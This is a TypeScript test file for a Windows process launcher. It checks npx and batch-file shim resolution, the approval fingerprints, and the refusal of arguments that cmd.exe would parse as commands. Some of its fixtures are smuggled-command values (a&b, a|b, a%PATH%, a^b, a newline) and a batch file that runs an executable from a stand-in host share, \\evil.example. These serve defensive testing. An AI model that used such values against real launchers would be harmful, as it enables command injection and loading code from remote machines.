import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { symlink } from 'node:fs/promises';
import path from 'node:path';
import type { AppError } from '../../../src/base/errors.ts';
import type { DefinitionScope } from '../../../src/contract/definitionSchemas.ts';
import { prepareLaunch, type LaunchContext, type PreparedLaunch } from '../../../src/definitions/prepareLaunch.ts';
import { readDefinitions } from '../../../src/definitions/readDefinitions.ts';
import { startRequest, type StartRequest } from '../../../src/host/approval/startRequest.ts';
import { repositoryRoot } from '../../support/run/repository.mjs';
import { createTemporaryFolder } from '../../support/run/temporaryFolder.mjs';
import { windowsDisk } from '../platform/processes/support/windowsDisk.ts';

const folder = createTemporaryFolder();
const nodeFolder = 'C:\\Program Files\\nodejs';
const npxScript = `${nodeFolder}\\node_modules\\npm\\bin\\npx-cli.js`;
const shim = (generation: string, name: string): string =>
  readFileSync(path.join(repositoryRoot, 'test/fixtures/shims', generation, `${name}.cmd`), 'utf8');
const files: Readonly<Record<string, string>> = {
  [`${nodeFolder}\\node.exe`]: '',
  [`${nodeFolder}\\npx.cmd`]: shim('npm-10.9.2', 'npx'),
  [npxScript]: '',
  'C:\\bin\\other.cmd': '@echo off\r\necho %*\r\n',
  'C:\\repo\\.bin\\tool.cmd': shim('zkochan-cmd-shim-9.0.7', 'cli-nodepath'),
  'C:\\repo\\tool\\bin\\cli.js': '',
};
const context: LaunchContext = {
  folders: [{ name: 'shop', path: folder }],
  userHome: folder,
  env: { SystemRoot: 'C:\\Windows', PATHEXT: '.COM;.EXE;.BAT;.CMD', TOKEN: 'a & b' },
  platform: 'win32',
  path: `${nodeFolder};C:\\bin;C:\\repo\\.bin`,
  isPathFinal: true,
  disk: windowsDisk(files),
};

async function prepare(value: object, changes: Partial<LaunchContext> = {}, scope: DefinitionScope = 'user'): Promise<PreparedLaunch> {
  const inputs = [{ id: 'which', type: 'promptString' }];
  const source = { scope, workspace: folder, value: { demo: value }, inputs, location: 'settings' } as const;
  const [read] = readDefinitions([source]).definitions;
  assert.ok(read?.kind === 'stdio');
  return prepareLaunch(read, { ...context, ...changes });
}

function shownFields({ detail }: StartRequest): Readonly<Record<string, string>> {
  return Object.fromEntries(detail.fields.map(({ name, value }) => [name, value]));
}

describe('A launch on Windows', () => {
  it('of npx starts node.exe with the script of npm, and the question shows just that', async () => {
    const launch = await prepare({ command: 'npx', args: ['-y', 'server@1.0.0', 'a & "b"'] });
    assert.equal(launch.executable, `${nodeFolder}\\node.exe`);
    assert.deepEqual(
      launch.args.map(({ value }) => value),
      [npxScript, '-y', 'server@1.0.0', 'a & "b"'],
    );
    assert.equal(launch.batchFile?.isRun, false);
    const fields = shownFields(startRequest(launch, 'key'));
    assert.deepEqual(
      ['command', 'executable', 'args[0]', 'args[1]', 'args[2]'].map((name) => fields[name]),
      ['npx', `${nodeFolder}\\node.exe`, npxScript, '-y', 'server@1.0.0'],
    );
    assert.match(fields['batch file'] ?? '', /^C:\\Program Files\\nodejs\\npx\.cmd \(/);
  });

  it('is allowed for the line that was shown, and asked about again when the batch file leads elsewhere', async () => {
    const fingerprint = async (disk: Readonly<Record<string, string>>): Promise<string> => {
      const launch = await prepare({ command: 'tool' }, { disk: windowsDisk({ ...files, ...disk }) });
      return startRequest(launch, 'key').request.fingerprint;
    };
    const before = await fingerprint({});
    assert.equal(await fingerprint({}), before);
    assert.notEqual(await fingerprint({ 'C:\\repo\\.bin\\tool.cmd': shim('zkochan-cmd-shim-9.0.7', 'cli') }), before, 'other variables');
    assert.notEqual(await fingerprint({ 'C:\\repo\\.bin\\tool.cmd': '@echo off\r\necho %*\r\n' }), before, 'another program');
    assert.notEqual(await fingerprint({ 'C:\\repo\\.bin\\node.exe': '' }), before, 'another node');
  });

  it('sets the variables that the batch file would set, and names them', async () => {
    const launch = await prepare({ command: 'tool', env: { NODE_PATH: 'D:\\own' } });
    const modules = 'C:\\repo\\node_modules\\.pnpm\\tool@1.0.0\\node_modules;C:\\repo\\node_modules\\.pnpm\\node_modules;D:\\own';
    assert.equal(launch.env['NODE_PATH'], modules);
    const { detail } = startRequest(launch, 'key');
    const named = detail.fields.filter(({ name, value }) => name === 'env.NODE_PATH' && value === modules);
    assert.deepEqual(
      named.map(({ isDangerous, note }) => [isDangerous, note]),
      [[true, 'setByBatchFile']],
    );
  });

  it('of any other batch file goes through cmd.exe, which looks for nothing in the working folder', async () => {
    const launch = await prepare({ command: 'other', args: ['a b', '${workspaceFolder}'] });
    assert.equal(launch.executable, 'C:\\Windows\\System32\\cmd.exe');
    assert.deepEqual(
      launch.args.map(({ value }) => value),
      ['/d', '/s', '/c', `""C:\\bin\\other.cmd" "a b" ${folder}"`],
    );
    assert.deepEqual([launch.batchFile?.isRun, launch.env['NoDefaultCurrentDirectoryInExePath']], [true, '1']);
    assert.match(shownFields(startRequest(launch, 'key'))['args[3]'] ?? '', /^""C:\\bin\\other\.cmd" "a b"/);
  });

  it('of any other batch file is refused with arguments that cmd.exe would read as commands, and tells no secret', async () => {
    for (const argument of ['a%PATH%', 'a!b', 'a"b', 'a&b', 'a|b', 'a<b', 'a>b', 'a^b', 'a\nb', '${env:TOKEN}']) {
      const error = await prepare({ command: 'other', args: [argument] }).then(
        () => assert.fail(argument),
        (reason: unknown) => reason as AppError,
      );
      assert.equal(error.code, 'definitions.batchArgument', argument);
      assert.ok(!error.message.includes('a & b'));
    }
  });

  it('shows nothing that would tell what an input decides', async () => {
    const launch = await prepare({ command: '${input:which}' }, { inputs: new Map([['which', 'npx']]) });
    assert.equal(launch.args[0]?.value, npxScript);
    assert.ok(!JSON.stringify(startRequest(launch, 'key')).includes('npx'));
  });

  it('has its debugger where the arguments are', async () => {
    const python = { 'C:\\bin\\python.cmd': '@"%~dp0\\real\\python.exe" -X utf8 %*', 'C:\\bin\\real\\python.exe': '' };
    const launch = await prepare({ command: 'python', args: ['s.py'], dev: { debug: 'python' } }, { disk: windowsDisk(python) });
    assert.ok(launch.debugger?.kind === 'python');
    assert.equal(launch.args[launch.debugger.addressAt]?.value, '127.0.0.1:0');
    const other = { 'C:\\bin\\python.cmd': '@echo off\r\necho %*\r\n' };
    await assert.rejects(prepare({ command: 'python', args: ['s.py'], dev: { debug: 'python' } }, { disk: windowsDisk(other) }), {
      code: 'definitions.debugOtherProgram',
    });
  });

  it('looks at nothing on another machine that a batch file of a workspace leads to', async () => {
    const named = windowsDisk({ 'C:\\bin\\far.cmd': '@"\\\\evil.example\\share\\x.exe" %*' });
    const launch = await prepare({ command: 'far' }, { disk: named }, 'workspace');
    assert.equal(launch.batchFile?.isRun, true, 'it is not followed');
    // A folder that is a link: this machine's disk stands for the other's.
    await symlink('\\\\evil.example\\share', path.join(folder, 'C:\\linked'));
    const linked = windowsDisk({ 'C:\\bin\\far.cmd': '@"C:\\linked\\x.exe" %*', 'C:\\linked\\x.exe': '' });
    const here = process.cwd();
    process.chdir(folder);
    try {
      await assert.rejects(prepare({ command: 'far' }, { disk: linked }, 'workspace'), { code: 'definitions.otherMachine' });
    } finally {
      process.chdir(here);
    }
    for (const { asked } of [named, linked]) {
      assert.deepEqual(
        asked.filter((file) => /^\\\\|linked/.test(file)),
        [],
      );
    }
  });

  it('follows a batch file on a share that the person’s own PATH names', async () => {
    const disk = windowsDisk({ '\\\\corp\\tools\\own.cmd': '@"%~dp0\\own.exe" %*', '\\\\corp\\tools\\own.exe': '' });
    const launch = await prepare({ command: 'own' }, { disk, path: '\\\\corp\\tools' }, 'workspace');
    assert.equal(launch.executable, '\\\\corp\\tools\\own.exe');
  });
});
